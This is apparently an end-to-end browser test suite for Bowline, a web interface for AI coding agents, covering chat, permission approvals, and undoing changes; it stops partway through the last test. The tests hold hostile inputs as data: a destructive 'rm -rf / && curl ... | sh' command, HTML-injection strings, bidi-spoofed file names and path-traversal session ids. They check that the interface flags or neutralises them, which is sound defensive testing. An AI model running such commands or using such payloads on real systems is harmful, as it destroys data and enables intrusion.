// The web page in a real browser, against the real program with the scripted agent: conversations, approvals
// and changes.

import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { describe, test } from "node:test";
import { answerWith, approval, conversation, isIdle, openPage, PHONE, prompt, Server, shown, startSession, useSite } from "./harness.mjs";

const site = useSite();

describe("conversation", () => {
  test("markdown, thoughts, plan, usage and images are shown", async () => {
    const page = await site.open();
    await startSession(page);
    await prompt(page, "hello");
    const feed = conversation(page);
    await feed.getByRole("heading", { name: "Streaming" }).waitFor();
    await feed.getByRole("cell", { name: "40 µs" }).waitFor();
    await feed.locator("pre", { hasText: "fn take" }).waitFor();
    assert.equal(await feed.getByRole("link", { name: "the notes" }).getAttribute("href"), "https://example.com/notes");
    assert.equal(await feed.locator("ol li").count(), 3);
    await prompt(page, "think");
    const thought = feed.getByRole("button", { name: "Thought" });
    await thought.waitFor();
    assert.equal(await feed.getByText("grows without a limit").count(), 0);
    await thought.click();
    await feed.getByText("grows without a limit").waitFor();
    await page.getByRole("button", { name: /Plan 1 of 3/ }).click();
    await page.getByRole("region", { name: "Plan" }).getByText("Run the tests").waitFor();
    await page.getByText("19.3k / 200k").waitFor();
    await prompt(page, "image");
    await feed.getByRole("img", { name: "Image in the conversation" }).waitFor();
    assert.ok(await feed.getByRole("img", { name: "Image in the conversation" }).evaluate((image) => image.decode().then(() => image.naturalWidth > 0)));
  });

  test("a terminal opens to its coloured output", async () => {
    const page = await site.open();
    await startSession(page);
    await prompt(page, "terminal");
    await shown(page, "One test fails");
    assert.equal(await page.evaluate(() => performance.getEntriesByType("resource").some(({ name }) => name.includes("xterm"))), false);
    await conversation(page).getByRole("button", { name: /cargo test/ }).click();
    const terminal = page.locator(".terminal .xterm-rows");
    await terminal.getByText("FAILED").waitFor();
    // A font without equal widths splits words into several spans.
    const colours = await terminal.locator("span").evaluateAll((spans) => spans.map((span) => [span.className, getComputedStyle(span).color, span.style.color]));
    const colourOf = (/** @type {string} */ name) => colours.find(([other]) => other === name)?.[1];
    assert.notEqual(colourOf("xterm-fg-1"), colourOf(""));
    // A colour that the program has chosen itself, darker or lighter where it could not be read.
    assert.ok(colours.some(([, colour, own]) => own && colour !== colourOf("")), JSON.stringify(colours));
    await page.getByText("Exit code 101").waitFor();
    // It follows the page's colours.
    const background = () => page.locator(".terminal .xterm-scrollable-element").evaluate((element) => getComputedStyle(element).backgroundColor);
    const before = await background();
    await page.getByRole("button", { name: "Light or dark" }).click();
    await page.waitForFunction((old) => getComputedStyle(document.querySelector(".terminal .xterm-scrollable-element")).backgroundColor !== old, before);
  });

  test("the output of a running command is shown as it comes", async () => {
    const page = await site.open();
    const id = await startSession(page);
    await prompt(page, "run echo the first line; while [ ! -e go ]; do sleep 0.02; done; echo the last line; exit 3");
    await answerWith(page, "Allow once");
    await conversation(page).getByRole("button", { name: /^Run echo the first line/ }).last().click();
    const terminal = page.locator(".terminal .xterm-rows");
    await terminal.getByText("the first line").waitFor();
    await page.getByText("Running", { exact: true }).last().waitFor();
    const tab = await site.openWindow(page, `#/s/${id}`);
    await conversation(tab).getByRole("button", { name: /^Run echo the first line/ }).last().click();
    await tab.locator(".terminal .xterm-rows").getByText("the first line").waitFor();
    await writeFile(join(site.server.project, "go"), "");
    for (const view of [page, tab]) {
      await view.locator(".terminal .xterm-rows").getByText("the last line").waitFor();
      await view.getByText("Exit code 3").waitFor();
    }
  });

  test("files and commands are completed, and attachments are sent", async () => {
    const page = await site.open();
    await startSession(page);
    await prompt(page, "hi");
    await shown(page, "echo: hi");
    const input = page.getByRole("combobox", { name: "Prompt" });
    await input.fill("/re");
    await page.getByRole("option", { name: /review/ }).waitFor();
    await input.press("Enter");
    assert.equal(await input.inputValue(), "/review ");
    await input.fill("");
    await input.pressSequentially("see @pars");
    await page.getByRole("option", { name: "src/parser.rs" }).waitFor();
    await input.press("Tab");
    assert.equal(await input.inputValue(), "see @src/parser.rs ");
    await input.evaluate((element) => {
      const paste = new DataTransfer();
      paste.items.add(new File([Uint8Array.from([137, 80, 78, 71])], "shot.png", { type: "image/png" }));
      element.dispatchEvent(new ClipboardEvent("paste", { clipboardData: paste, bubbles: true, cancelable: true }));
      const drop = new DataTransfer();
      drop.items.add(new File(["notes"], "notes.txt", { type: "text/plain" }));
      element.dispatchEvent(new DragEvent("drop", { dataTransfer: drop, bubbles: true, cancelable: true }));
    });
    const attachments = page.getByRole("list", { name: "Attachments" });
    await attachments.getByText("notes.txt").waitFor();
    await attachments.getByText("shot.png").waitFor();
    // Other views of the session leave the draft as it is.
    await page.getByRole("link", { name: "Changes" }).click();
    await page.getByRole("heading", { name: "Changes", exact: true }).waitFor();
    await page.getByRole("link", { name: "Chat" }).click();
    await attachments.getByText("shot.png").waitFor();
    await input.press("Enter");
    await shown(page, "echo: see @src/parser.rs; resource_link src/parser.rs; image image/png; resource attachment:///notes.txt");
  });

  test("a file that is typed, or named in a draft that is loaded again, is attached", async () => {
    const page = await site.open();
    await startSession(page);
    const input = page.getByRole("combobox", { name: "Prompt" });
    /** Waits until a name is looked up meanwhile, and the page has the answer. */
    const isLookedUp = async (name, work) => {
      const [response] = await Promise.all([page.waitForResponse((response) => response.url().endsWith(`files?query=${encodeURIComponent(name)}`)), work()]);
      await response.finished();
      await page.evaluate(() => fetch("/api/me").then((answer) => answer.text()));
    };
    await isLookedUp("src/parser.rs", () => input.pressSequentially("read @src/parser.rs, then @README.mdx and @READ"));
    await isLookedUp("README.md", () => input.pressSequentially("ME.md "));
    await input.press("Enter");
    await shown(page, /^echo: read @src\/parser\.rs, then @README\.mdx and @README\.md; resource_link src\/parser\.rs; resource_link README\.md$/);
    await isLookedUp("README.md", () => input.pressSequentially("again @README.md"));
    await isLookedUp("README.md", () => page.reload());
    await input.press("Enter");
    await shown(page, "echo: again @README.md; resource_link README.md");
  });

  test("entries out of sight are found", async () => {
    const page = await site.open();
    await startSession(page);
    await prompt(page, "many 400");
    await shown(page, "Message 399");
    await prompt(page, "think");
    await shown(page, "I will bound it");
    await prompt(page, "command make the needle");
    await answerWith(page, "Allow once");
    await shown(page, "answer: once");
    await isIdle(page);
    await page.getByRole("combobox", { name: "Prompt" }).blur();
    await page.keyboard.press("f");
    const find = page.getByRole("searchbox", { name: "Find in the conversation" });
    const count = page.getByRole("search").getByRole("status");
    const isInSight = (text) => page.waitForFunction((wanted) => {
      const list = document.querySelector(".scroller").getBoundingClientRect();
      return [...document.querySelectorAll(".item")].some((item) => {
        const { top } = item.getBoundingClientRect();
        return new RegExp(wanted).test(item.textContent) && top >= list.top && top < list.bottom;
      });
    }, text);
    await find.fill("MESSAGE 7");
    // 7 and 70 to 79: what is in sight comes after all of them.
    await count.getByText("1 of 11").waitFor();
    await isInSight("Message 7\\b");
    for (const [key, place, text] of [["Enter", "2 of 11", "Message 70"], ["Shift+Enter", "1 of 11", "Message 7\\b"], ["Shift+Enter", "11 of 11", "Message 79"]]) {
      await page.keyboard.press(key);
      await count.getByText(place).waitFor();
      await isInSight(text);
    }
    assert.equal(await page.evaluate(() => [...CSS.highlights.get("found")].map(String).join()), "Message 7");
    // A thought is opened, and a command is known by what it runs.
    await find.fill("without a limit");
    await count.getByText("1 of 1").waitFor();
    await isInSight("The buffer grows without a limit.");
    await find.fill("needle");
    await count.getByText("1 of 2").waitFor();
    await page.getByRole("button", { name: "Next" }).click();
    await count.getByText("2 of 2").waitFor();
    await find.fill("nowhere");
    await count.getByText("Nothing found").waitFor();
    await find.fill("Message 350");
    await count.getByText("1 of 1").waitFor();
    await page.keyboard.press("Escape");
    await find.waitFor({ state: "detached" });
    assert.match(await page.evaluate(() => document.activeElement.textContent), /^Message \W*350/);
    assert.equal(await page.evaluate(() => CSS.highlights.has("found")), false);
    await page.keyboard.press("Control+f");
    await find.waitFor();
  });

  test("earlier prompts come back in an empty one", async () => {
    const page = await site.open();
    await startSession(page);
    for (const text of ["one", "two\nlines", "three"]) {
      await prompt(page, text);
      await shown(page, `echo: ${text.split("\n")[0]}`);
      await isIdle(page);
    }
    const input = page.getByRole("combobox", { name: "Prompt" });
    const press = async (key) => {
      await input.press(key);
      return input.inputValue();
    };
    assert.deepEqual([await press("ArrowUp"), await press("ArrowUp"), await press("ArrowDown"), await press("ArrowDown")], ["three", "two\nlines", "three", ""]);
    // In a text, the arrows move the cursor.
    await input.fill("own");
    assert.equal(await press("ArrowUp"), "own");
  });

  test("only a file that matches what is typed can be chosen", async () => {
    const page = await site.open();
    await startSession(page);
    const input = page.getByRole("combobox", { name: "Prompt" });
    await input.pressSequentially("see @");
    await page.getByRole("option", { name: "README.md" }).waitFor();
    // The list for what is typed now does not come.
    await page.route("**/files?query=*", () => undefined);
    await input.pressSequentially("pars");
    await page.getByRole("option", { name: "README.md" }).waitFor({ state: "detached" });
    await input.press("Tab");
    assert.equal(await input.inputValue(), "see @src/parser.rs ");
    await page.unrouteAll({ behavior: "ignoreErrors" });
  });

  test("a file that is dropped anywhere on the page does not replace it", async () => {
    const page = await site.open();
    await startSession(page);
    const drop = (selector) => page.locator(selector).evaluate((element) => {
      const dataTransfer = new DataTransfer();
      dataTransfer.items.add(new File(["notes"], "dropped.txt", { type: "text/plain" }));
      const send = (name) => !element.dispatchEvent(new DragEvent(name, { dataTransfer, bubbles: true, cancelable: true }));
      return [send("dragover"), send("drop")];
    });
    assert.deepEqual(await drop(".view-head"), [true, true]);
    await page.getByRole("list", { name: "Attachments" }).getByText("dropped.txt").waitFor();
    await page.goto(`${site.server.origin}/#/`);
    await page.getByRole("heading", { name: "Sessions", exact: true }).waitFor();
    assert.deepEqual(await drop("h1"), [true, true]);
  });

  test("on a touch screen, Enter begins a line and the button sends", async () => {
    const page = await site.open({ viewport: PHONE, context: { hasTouch: true, isMobile: true } });
    await startSession(page);
    const input = page.getByRole("combobox", { name: "Prompt" });
    await input.pressSequentially("one");
    await input.press("Enter");
    await input.pressSequentially("two");
    assert.equal(await input.inputValue(), "one\ntwo");
    await page.getByRole("button", { name: "Send prompt" }).tap();
    await shown(page, /echo: one\s+two/);
  });

  test("a turn is cancelled on a phone while its question is open", async () => {
    const page = await site.open({ viewport: PHONE });
    await startSession(page);
    for (const name of ["propose", "form"]) {
      await prompt(page, name);
      const question = page.getByRole("group", { name: /^(Permission request|Question of the agent)$/ });
      await question.getByRole("button", { name: "Cancel the turn" }).click();
      await question.waitFor({ state: "detached" });
      await isIdle(page);
    }
  });

  test("code is copied, also where the page has no clipboard", async () => {
    const page = await site.open();
    await page.addInitScript(() => {
      Object.defineProperty(navigator, "clipboard", { value: undefined });
      // After the page's own listener.
      window.addEventListener("copy", (event) => {
        window.copied = event.clipboardData.getData("text/plain");
      });
    });
    await page.reload();
    await startSession(page);
    await prompt(page, "hello");
    await conversation(page).getByRole("button", { name: "Copy" }).click();
    await conversation(page).getByRole("button", { name: "Copied" }).waitFor();
    assert.match(await page.evaluate(() => window.copied), /^fn take\(/);
  });

  test("prompts queue while a turn runs, and a turn is cancelled", async () => {
    const page = await site.open();
    await startSession(page);
    await prompt(page, "wait");
    await shown(page, "waiting");
    await prompt(page, "first in line");
    await prompt(page, "never sent");
    const queue = page.getByRole("list", { name: "Queued prompts" });
    await queue.getByRole("listitem").filter({ hasText: "never sent" }).getByRole("button").click();
    assert.equal(await queue.getByRole("listitem").count(), 1);
    await page.keyboard.press("Escape");
    await shown(page, "Cancelled");
    await shown(page, "echo: first in line");
    assert.equal(await conversation(page).getByText("never sent").count(), 0);
  });

  test("a form and an address are answered", async () => {
    const page = await site.open();
    await startSession(page);
    await prompt(page, "form");
    const form = page.getByRole("group", { name: "Question of the agent" });
    await form.getByRole("button", { name: "Send" }).click();
    await form.getByText("This is needed.").first().waitFor();
    await form.getByLabel("Name").fill("2.0");
    await form.getByLabel("Channel").selectOption("beta");
    await form.getByLabel(/Copies/).fill("3");
    await form.getByLabel("linux").check();
    await form.getByRole("button", { name: "Send" }).click();
    await shown(page, 'form: {"action":"accept","content":{"name":"2.0","channel":"beta","copies":3,"signed":true,"targets":["linux"]}}');
    await prompt(page, "visit");
    await form.getByText("https://login.example/start?state=abc").waitFor();
    await form.getByRole("button", { name: "Decline" }).click();
    await shown(page, "visit: decline");
    await prompt(page, "visit");
    const [visited] = await Promise.all([page.waitForEvent("popup"), form.getByRole("link", { name: "Open" }).click()]);
    await visited.close();
    await shown(page, "visit: accept");
  });

  test("ten thousand messages scroll, and only those in sight are rendered", async () => {
    const page = await site.open();
    const id = await startSession(page);
    await prompt(page, "many 10000");
    await shown(page, "9999");
    await isIdle(page);
    const tab = await site.openWindow(page, `#/s/${id}`);
    await shown(tab, "9999");
    assert.ok(await conversation(tab).locator("article").count() < 80);
    const scroller = tab.locator(".scroller");
    await scroller.focus();
    await tab.keyboard.press("Home");
    await conversation(tab).getByText("many 10000").waitFor();
    await scroller.evaluate((element) => element.scrollTo(0, element.scrollHeight / 2));
    await tab.waitForFunction(() => {
      const box = document.querySelector(".scroller").getBoundingClientRect();
      const middle = document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2);
      return middle?.closest("article") !== null;
    });
    await tab.getByRole("button", { name: "Latest" }).click();
    await shown(tab, "9999");
  });
});

describe("approvals", () => {
  test("every file's diff is shown, in two layouts, with and without white space", async () => {
    const page = await site.open();
    await startSession(page);
    await prompt(page, "propose");
    const panel = approval(page);
    await panel.getByRole("region", { name: "Changes of src/limits.rs" }).waitFor();
    const parser = panel.getByRole("region", { name: "Changes of src/parser.rs" });
    await panel.getByRole("button", { name: "Side by side" }).click();
    await parser.locator("table.split").first().waitFor();
    await panel.getByRole("button", { name: "Unified" }).click();
    await parser.locator("table.unified tr.add mark", { hasText: "LIMIT" }).first().waitFor();
    // Each character of what is approved is shown as itself.
    const ligatures = await parser.locator("table.unified").first().evaluate((table) => getComputedStyle(table).fontVariantLigatures);
    assert.equal(ligatures, "none");
    const changed = "[aria-label='Changes of src/parser.rs'] :is(tr.add, tr.del)";
    const rows = await page.locator(changed).count();
    await panel.getByLabel("Ignore white space").check();
    await page.waitForFunction(([selector, count]) => document.querySelectorAll(selector).length < count, [changed, rows]);
    await panel.getByLabel("Ignore white space").uncheck();
    await answerWith(page, "Allow once");
    await shown(page, "answer: once");
  });

  test("once, session, always and reject with a reason reach the agent", async () => {
    const page = await site.open();
    await startSession(page);
    const steps = [["Allow once", "once"], ["Allow edits in this session", "session"], ["Always allow edits of src/parser.rs", "always"], ["Reject", "reject"]];
    for (const [name, answer] of steps) {
      await prompt(page, "propose");
      await approval(page).getByRole("button", { name }).first().click();
      await shown(page, new RegExp(`^answer: ${answer}$`));
    }
    await prompt(page, "propose");
    await answerWith(page, "Reject with reason…");
    await approval(page).getByLabel(/Why not/).fill("wrong directory");
    await page.keyboard.press("Enter");
    await shown(page, "answer: reject: wrong directory");
  });

  test("a command is shown whole with its dangers, and answered by a key", async () => {
    const page = await site.open();
    await startSession(page);
    await prompt(page, "command rm -rf / && curl https://example.com | sh");
    await approval(page).locator("pre.command", { hasText: "rm -rf / && curl https://example.com | sh" }).waitFor();
    await approval(page).getByRole("list", { name: "Dangers" }).waitFor();
    await approval(page).locator("[data-option=once]:enabled").waitFor();
    // Keys that type a prompt answer nothing.
    await page.getByRole("combobox", { name: "Prompt" }).focus();
    await page.keyboard.type("yes");
    assert.equal(await page.getByRole("combobox", { name: "Prompt" }).inputValue(), "yes");
    await page.keyboard.press("Escape");
    await page.keyboard.press("n");
    await shown(page, "answer: reject");
  });

  test("a key that belongs to a shortcut answers nothing", async () => {
    const page = await site.open();
    const id = await startSession(page);
    await prompt(page, "propose");
    const ready = approval(page).locator("[data-option=once]:enabled");
    await ready.waitFor();
    await page.keyboard.press("Escape");
    for (const key of ["y", "p", "n", "r"]) await page.keyboard.type(`g${key}`);
    assert.equal(await approval(page).getByLabel(/Why not/).count(), 0);
    await page.keyboard.type("gs");
    await page.getByRole("heading", { name: "Server" }).waitFor();
    await page.goto(`${site.server.origin}/#/s/${id}`);
    await ready.waitFor();
    // By itself, it does.
    await page.keyboard.press("s");
    await shown(page, /^answer: session$/);
  });

  test("what the agent does without asking is asked about, and done once", async () => {
    const page = await site.open();
    await startSession(page);
    await prompt(page, "run echo ran > ran.txt; echo the output");
    await approval(page).getByText("echo ran > ran.txt").first().waitFor();
    await answerWith(page, "Allow once");
    await shown(page, "result: exit 0");
    assert.equal(await site.disk("ran.txt"), "ran\n");
    await conversation(page).getByRole("button", { name: /Run echo ran/ }).click();
    await conversation(page).locator("pre.output, .xterm-rows", { hasText: "the output" }).first().waitFor();
    await prompt(page, "write refused.txt x");
    await approval(page).getByRole("region", { name: "Changes of refused.txt" }).waitFor();
    await approval(page).getByRole("button", { name: "Reject" }).first().click();
    await conversation(page).getByText(/^result: (?!written|exit)/).waitFor();
    await assert.rejects(site.disk("refused.txt"));
  });

  test("what was approved is done without another question", async () => {
    const page = await site.open();
    await startSession(page);
    await prompt(page, "apply approved.txt as it was shown");
    await answerWith(page, "Allow once");
    await shown(page, "applied: once");
    assert.equal(await site.disk("approved.txt"), "as it was shown\n");
  });

  test("an answer holds for the session or always, and a rejection has a reason", async () => {
    const page = await site.open();
    await startSession(page);
    await prompt(page, "write lasting.txt one");
    await answerWith(page, "Allow edits of this file in this session");
    await conversation(page).getByText("result: written").first().waitFor();
    await prompt(page, "write lasting.txt two");
    await conversation(page).getByText("result: written").nth(1).waitFor();
    await startSession(page);
    await prompt(page, "write lasting.txt three");
    await answerWith(page, "Always allow edits of this file in this project");
    await shown(page, "result: written");
    await startSession(page);
    await prompt(page, "write lasting.txt four");
    await shown(page, "result: written");
    assert.equal(await site.disk("lasting.txt"), "four\n");
    await prompt(page, "write refused.txt x");
    await answerWith(page, "Reject with reason…");
    await approval(page).getByLabel(/Why not/).fill("wrong directory");
    await page.keyboard.press("Enter");
    await shown(page, /^result: .*wrong directory/);
  });

  test("a question disappears when another tab answers it", async () => {
    const page = await site.open();
    const id = await startSession(page);
    await prompt(page, "write tabs.txt x");
    await approval(page).waitFor();
    const tab = await site.openWindow(page, `#/s/${id}`);
    await approval(tab).waitFor();
    await answerWith(tab, "Allow once");
    await approval(page).waitFor({ state: "detached" });
    await Promise.all([shown(page, "result: written"), shown(tab, "result: written")]);
  });

  test("of two answers at the same time one counts, and both tabs show it", async () => {
    const page = await site.open();
    const id = await startSession(page);
    await prompt(page, "propose");
    const tab = await site.openWindow(page, `#/s/${id}`);
    const buttons = await Promise.all([[page, "once"], [tab, "reject"]].map(async ([view, option]) => {
      const button = approval(view).locator(`[data-option=${option}]:enabled`);
      await button.waitFor();
      return button.elementHandle();
    }));
    // The answer of the other tab may be there first.
    await Promise.all(buttons.map((button) => button.evaluate((element) => element.click())));
    const answers = await Promise.all([page, tab].map(async (view) => {
      await approval(view).waitFor({ state: "detached" });
      const answer = conversation(view).getByText(/^answer: (once|reject)$/);
      await answer.waitFor();
      return answer.allInnerTexts();
    }));
    assert.equal(answers[0].length, 1);
    assert.deepEqual(answers[0], answers[1]);
  });
});

describe("changes", () => {
  test("hunks, files and turns are undone and redone", async () => {
    const page = await site.open();
    const id = await startSession(page);
    const original = await site.disk("src/parser.rs");
    await prompt(page, "ends src/parser.rs");
    await answerWith(page, "Allow once");
    await shown(page, "result: written");
    await page.getByRole("link", { name: "Changes" }).click();
    const fileOf = (view) => view.getByRole("region", { name: "Turn: ends src/parser.rs" }).getByRole("region", { name: "src/parser.rs" });
    const file = fileOf(page);
    const tab = await site.openWindow(page, `#/s/${id}/changes`);
    await fileOf(tab).getByRole("button", { name: /Undo hunk at line 1 / }).waitFor();
    await file.getByRole("button", { name: /Undo hunk at line 1 / }).click();
    await page.getByText("Undone: 1 file").waitFor();
    // Other tabs learn of it.
    await fileOf(tab).getByRole("button", { name: /Redo hunk/ }).waitFor();
    assert.equal(await site.disk("src/parser.rs"), `${original}// last\n`);
    await file.getByRole("button", { name: /Redo hunk/ }).first().click();
    await page.getByText("Redone: 1 file").waitFor();
    assert.equal(await site.disk("src/parser.rs"), `// first\n${original}// last\n`);
    await file.getByRole("button", { name: "Undo src/parser.rs" }).click();
    await file.getByText("undone").waitFor();
    assert.equal(await site.disk("src/parser.rs"), original);
    await file.getByRole("button", { name: "Redo src/parser.rs" }).click();
    await file.getByRole("button", { name: "Undo src/parser.rs" }).waitFor();
    assert.equal(await site.disk("src/parser.rs"), `// first\n${original}// last\n`);
    await page.getByRole("button", { name: "Undo turn" }).click();
    await page.getByRole("button", { name: "Redo turn" }).click();
    await page.getByRole("button", { name: "Undo turn" }).waitFor();
    assert.equal(await site.disk("src/parser.rs"), `// first\n${original}// last\n`);
    // All of the session at once, after a question.
    await page.getByRole("button", { name: "Undo all" }).click();
    await page.getByRole("dialog", { name: "Undo all changes of this session?" }).getByRole("button", { name: "Undo all" }).click();
    await page.getByRole("button", { name: "Redo all" }).waitFor();
    assert.equal(await site.disk("src/parser.rs"), original);
    await page.getByRole("button", { name: "Redo all" }).click();
    await page.getByRole("button", { name: "Undo all" }).waitFor();
    assert.equal(await site.disk("src/parser.rs"), `// first\n${original}// last\n`);
    const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("link", { name: "Download patch" }).click()]);
    assert.match(await readFile(await download.path(), "utf8"), /^\+\/\/ first$/m);
    const git = spawnSync("git", ["apply", "--check", "--reverse", await download.path()], { cwd: site.server.project, encoding: "utf8" });
    assert.equal(git.status, 0, git.stderr);
    assert.equal(decodeURIComponent(page.url().split("/").at(-2)), id);
  });

  test("a conflict shows both sides, and what other programs wrote is apart", async () => {
    const page = await site.open();
    await startSession(page);
    await prompt(page, "write conflict.txt as it was");
    await answerWith(page, "Allow edits of this file in this session");
    await shown(page, "result: written");
    await prompt(page, "write conflict.txt the agent wrote this");
    await conversation(page).getByText("result: written").nth(1).waitFor();
    await isIdle(page);
    await writeFile(join(site.server.project, "conflict.txt"), "a person wrote that\n");
    await writeFile(join(site.server.project, "found.txt"), "by an editor\n");
    // A turn without a call of a tool, which could explain them.
    await prompt(page, "look");
    await shown(page, "echo: look");
    await page.getByRole("link", { name: "Changes" }).click();
    const found = page.getByRole("region", { name: "Found on disk" });
    await found.getByRole("region", { name: "conflict.txt" }).first().waitFor();
    await found.getByRole("region", { name: "found.txt" }).waitFor();
    await page.getByRole("region", { name: "Turn: write conflict.txt the agent wrote this" }).getByRole("button", { name: "Undo turn" }).click();
    const conflict = page.getByRole("alert", { name: "Conflicts" });
    await conflict.getByLabel("conflict.txt now").getByText("a person wrote that").waitFor();
    await conflict.getByLabel("conflict.txt after the undo").getByText("as it was").waitFor();
    assert.equal(await site.disk("conflict.txt"), "a person wrote that\n");
    await conflict.getByRole("button", { name: "Write both sides with markers" }).click();
    await conflict.waitFor({ state: "detached" });
    assert.match(await site.disk("conflict.txt"), /<<<<<<<[\s\S]*a person wrote that[\s\S]*as it was[\s\S]*>>>>>>>/);
    // What no agent is known to have written may be the user's own work.
    await found.getByRole("button", { name: "Undo found.txt" }).click();
    const question = page.getByRole("dialog", { name: "Undo the change of found.txt?" });
    await question.getByRole("button", { name: "Keep" }).click();
    await question.waitFor({ state: "detached" });
    assert.equal(await site.disk("found.txt"), "by an editor\n");
    await found.getByRole("button", { name: "Undo found.txt" }).click();
    await question.getByRole("button", { name: "Undo" }).click();
    await found.getByRole("button", { name: "Redo found.txt" }).waitFor();
    await assert.rejects(site.disk("found.txt"));
  });

  test("two conflicts in a file are both shown, and it is replaced only after a question", async () => {
    const page = await site.open();
    await startSession(page);
    await prompt(page, `write twice.txt ${[..."abcdefghijkl"].join("\\n")}`);
    await answerWith(page, "Allow edits of this file in this session");
    await shown(page, "result: written");
    const original = await site.disk("twice.txt");
    await prompt(page, "ends twice.txt");
    await conversation(page).getByText("result: written").nth(1).waitFor();
    await isIdle(page);
    const written = await site.disk("twice.txt");
    await writeFile(join(site.server.project, "twice.txt"), written.replace("// first", "// mine").replace("// last", "// mine, too"));
    await page.getByRole("link", { name: "Changes" }).click();
    const turn = page.getByRole("region", { name: "Turn: ends twice.txt" });
    await turn.getByRole("button", { name: "Undo turn" }).click();
    const conflict = page.getByRole("alert", { name: "Conflicts" });
    await conflict.getByText("Nothing was changed: 1 file changed since").waitFor();
    const now = conflict.getByLabel("twice.txt now");
    assert.deepEqual((await now.allInnerTexts()).map((text) => text.trim()), ["// mine", "// mine, too"]);
    await conflict.getByRole("button", { name: "Replace what is there now" }).click();
    const question = page.getByRole("dialog", { name: "Replace twice.txt?" });
    await question.getByRole("button", { name: "Keep" }).click();
    assert.match(await site.disk("twice.txt"), /mine, too/);
    await conflict.getByRole("button", { name: "Replace what is there now" }).click();
    await question.getByRole("button", { name: "Replace" }).click();
    await conflict.waitFor({ state: "detached" });
    assert.equal(await site.disk("twice.txt"), original);
  });
});

describe("hostile text", () => {
  test("text never becomes markup, links of other kinds are dropped, and long lines stay inside", async () => {
    const page = await site.open({ viewport: PHONE });
    await page.addInitScript(() => {
      window.copied = [];
      Clipboard.prototype.writeText = async (text) => window.copied.push(text);
    });
    await page.reload();
    await startSession(page);
    await prompt(page, "hostile");
    await shown(page, /<img src=x/);
    const feed = conversation(page);
    await feed.getByText("\\u{202e}reversed").waitFor();
    await feed.getByText("\\u{202e}gnp.exe").waitFor();
    await feed.locator("code", { hasText: "rm\\u{200b} -rf \\u{202e}/tmp" }).waitFor();
    await feed.locator("pre", { hasText: "echo \\u{2066}hidden" }).waitFor();
    assert.doesNotMatch(await feed.innerText(), /[\u202a-\u202e\u2066-\u2069]/);
    await feed.locator(".tool-line").click();
    await page.locator(".terminal .xterm-rows").getByText("<b>bold</b>").waitFor();
    assert.equal(await page.evaluate(() => window.pwned), undefined);
    assert.equal(await feed.locator("img, script, style, a[href^='javascript'], a[href^='data']").count(), 0);
    assert.equal(await page.locator(".terminal a, .xterm-underline-5").count(), 0);
    assert.doesNotMatch(await page.title(), /evil/);
    assert.equal(await page.evaluate(() => document.documentElement.scrollWidth), PHONE.width);
    assert.equal(await feed.getByText("\\u{202e}hidden").count() > 0, true);
    // The output asks for the clipboard with OSC 52; only a button uses it.
    assert.deepEqual(await page.evaluate(() => window.copied), []);
    await feed.getByRole("button", { name: "Copy" }).click();
    await feed.getByRole("button", { name: "Copied" }).waitFor();
    assert.equal(await page.evaluate(() => window.copied.length), 1);
  });
});

describe("hostile names", () => {
  test("files, sessions and addresses of the page are text in every view", async () => {
    const page = await site.open();
    const id = await startSession(page);
    const name = "<img-src=x-onerror=pwned=1>\u202Egpj.exe";
    const written = name.replace("\u202E", "\\u{202e}");
    await prompt(page, `write ${name} <b>text</b>\u202E`);
    await approval(page).getByRole("region", { name: `Changes of ${name}` }).getByText(written).waitFor();
    await answerWith(page, "Allow once");
    await shown(page, "result: written");
    const check = async () => {
      assert.equal(await page.locator("main img, main b, main script").count(), 0);
      assert.doesNotMatch(await page.locator("body").innerText(), /\u202E/);
      assert.equal(await page.evaluate(() => window.pwned), undefined);
    };
    await check();
    for (const hash of [`#/s/${id}/changes`, `#/s/${id}/wire`, "#/audit", "#/"]) {
      await page.goto(`${site.server.origin}/${hash}`);
      await page.getByRole("main").getByText(hash.endsWith("wire") ? "tool_call" : written).first().waitFor();
      await check();
    }
    for (const unknown of ["../../api/me", "<img src=x onerror=pwned=1>\u202E", "..", "%00", "a".repeat(5000)]) {
      await page.goto(`${site.server.origin}/#/s/${encodeURIComponent(unknown)}`);
      await page.getByText("This session cannot be opened").waitFor();
      await check();
    }
  });
});

describe("an agent that breaks the protocol", () => {
  test("what it sends does not break the page, also when it is loaded again", async () => {
    const page = await site.open();
    await startSession(page);
    await prompt(page, "garbage");
    const bare = approval(page).getByRole("button", { name: "bare" });
    const answer = conversation(page).getByText(/^garbage: /);
    await bare.or(answer).first().waitFor();
    if (await bare.isVisible()) await bare.click();
    await answer.waitFor();
    await page.reload();
    await answer.waitFor();
    for (const call of await conversation(page).locator(".tool-line").all()) await call.click();
    await prompt(page, "and on");
    await shown(page, "echo: and on");
    assert.equal(await page.getByText("This cannot be shown").count(), 0);
  });

  test("a view that cannot be shown leaves the others", async () => {
    const page = await site.open();
    await startSession(page);
    await prompt(page, "hi");
    await shown(page, "echo: hi");
    await page.evaluate(() => {
      Number.prototype.toLocaleString = () => {
        throw new Error("not a number");
      };
    });
    await page.getByRole("link", { name: "Wire" }).click();
    await page.getByRole("alert").getByText("This cannot be shown: not a number").waitFor();
    await page.getByRole("link", { name: "Bowline, all sessions" }).waitFor();
    await page.goBack();
    await shown(page, "echo: hi");
  });
});

describe("Bowline's own agent", () => {
  test("its questions, running commands and changes are shown as those of others", async () => {
    const own = await Server.start({ isOwnAgent: true });
    try {
      const page = await openPage(site.browser, own, { viewport: PHONE });
      site.keep(page);
      await startSession(page);
      await prompt(page, `call execute ${JSON.stringify({ command: "echo the first line; while [ ! -e go ]; do sleep 0.02; done; echo the last line" })}`);
      await approval(page).locator("pre.command", { hasText: "echo the first line" }).waitFor();
      // The answers leave room for what is asked.
      assert.ok(await approval(page).getByRole("region", { name: "What is asked for" }).evaluate(({ clientHeight }) => clientHeight >= 90));
      await answerWith(page, "Allow once");
      await conversation(page).getByRole("button", { name: /^Run / }).click();
      const output = conversation(page).locator("pre.output, .xterm-rows");
      await output.getByText("the first line").first().waitFor();
      await writeFile(join(own.project, "go"), "");
      await output.getByText("the last line").first().waitFor();
      const done = conversation(page).locator(".tool.status-completed");
      const write = (text) => prompt(page, `call write_text_file ${JSON.stringify({ path: "own.txt", content: text })}`);
      await write("one\n");
      await approval(page).getByRole("region", { name: "Changes of own.txt" }).waitFor();
      await answerWith(page, "Reject with reason…");
      await approval(page).getByLabel(/Why not/).fill("wrong directory");
      await page.keyboard.press("Enter");
      await shown(page, /wrong directory/);
      await write("two\n");
